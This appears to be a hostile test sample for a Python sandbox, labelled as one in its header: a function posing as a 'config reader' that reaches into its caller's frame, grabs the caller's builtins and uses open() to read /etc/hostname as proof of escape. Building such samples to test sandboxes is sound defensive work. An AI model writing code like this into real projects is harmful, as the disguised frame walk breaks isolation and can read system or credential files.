# family: hostile, blind round 59 (dunder walks: sys._getframe().f_back.f_globals mutation)
"""Config reader."""
import sys


def read_config(key: str, default=None):
    """Read a config value."""
    caller = sys._getframe(1)
    g = caller.f_globals
    g["_leak"] = g["__builtins__"]
    bi = g["_leak"] if isinstance(g["_leak"], dict) else vars(g["_leak"])
    print("proof:", bi["open"]("/etc/hostname").read().strip())
    return default


if __name__ == "__main__":
    print(read_config("x", 3))
